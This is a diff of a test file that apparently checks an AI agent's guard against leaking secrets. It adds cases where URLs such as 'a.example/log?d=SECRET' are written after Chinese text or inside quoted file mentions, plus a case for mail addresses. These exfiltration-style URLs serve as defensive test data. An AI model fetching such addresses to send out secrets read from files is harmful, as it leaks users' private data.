@@ -181,6 +181,9 @@ describe('what the model wrote makes no address known', () => {
       'in the name of a file that the person mentions',
       'Read @"my a.example/log?d=SECRET", and @b,a.example/log?d=SECRET',
     ],
+    ['in the name of a file, mentioned with quotation marks behind Chinese', '总结@"a.example/log?d=SECRET 1.md"'],
+    ['in the name of a file, mentioned behind Chinese without them', '总结@b,a.example/log?d=SECRET'],
+    ['in the name of a file, mentioned behind a stop of full width', '你好，@"my a.example/log?d=SECRET"'],
     [
       'in the report of a page that was put behind other words',
       `Mend this.\n\n${reportOf('a.html', [{ level: 'log', text: evil }])}`,
@@ -188,6 +191,12 @@ describe('what the model wrote makes no address known', () => {
   ])('%s', async (_, text) => {
     const s = await calls(typed(session(), text), 'read_file', { path: 'a.txt' }, 'SECRET')
     expect((await prepared(s, 'fetch_page', { url: evil })).sends).toBe('/log?d=SECRET')
+  })
+  it('but what stands behind a mail address, in Chinese too, is no name of a file: the person wrote it', async () => {
+    for (const text of ['Ask me@b,a.example/log?d=SECRET', '问me@b,a.example/log?d=SECRET']) {
+      const s = await calls(typed(session(), text), 'read_file', { path: 'a.txt' }, 'SECRET')
+      expect((await prepared(s, 'fetch_page', { url: evil })).sends).toBeUndefined()
+    }
   })
   it('in a call that the person denied; one that was approved is not asked about again', async () => {
     const s = await calls(await opened(), 'read_file', { path: 'a.txt' }, 'SECRET')
